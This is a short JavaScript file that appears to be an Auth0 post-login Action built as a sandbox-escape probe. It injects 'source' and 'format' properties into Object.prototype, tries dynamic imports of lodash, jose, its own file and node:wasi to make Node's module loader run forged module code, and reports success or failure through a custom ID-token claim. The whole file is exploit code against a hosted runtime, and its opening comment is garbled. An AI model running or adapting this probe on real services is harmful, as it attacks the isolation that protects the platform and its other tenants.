// the text and the format of a module that every object inherits, which Node takes for those of the file that it loads
exports.onExecutePostLogin = async (event, api) => {
  const out = (v) => { try { api.idToken.setCustomClaim('probe', String(v).slice(0, 400)); } catch {} };
  const found = [], text = 'export default "forged"; export const forged = true;';
  const attempt = async (specifier, inherited) => {
    for (const [name, value] of Object.entries(inherited)) Object.prototype[name] = value;
    try { const m = await import(specifier); if (m.forged || m.default === 'forged') found.push(specifier); } catch {} finally { for (const name of Object.keys(inherited)) delete Object.prototype[name]; }
  };
  for (const specifier of ['lodash', 'jose', __filename, 'file://' + __filename, 'node:zlib', 'node:wasi', 'node:process'])
    for (const inherited of [{ source: text, format: 'module' }, { source: text }, { format: 'module', source: Buffer.from(text), shortCircuit: true }, { url: 'file://' + __filename, source: text, format: 'module' }]) await attempt(specifier + '?' + found.length, inherited).then(() => attempt(specifier, inherited));
  out(found.length > 0 ? 'ESCAPED:' + found.join('; ') : 'BLOCKED:nothing worked');
};
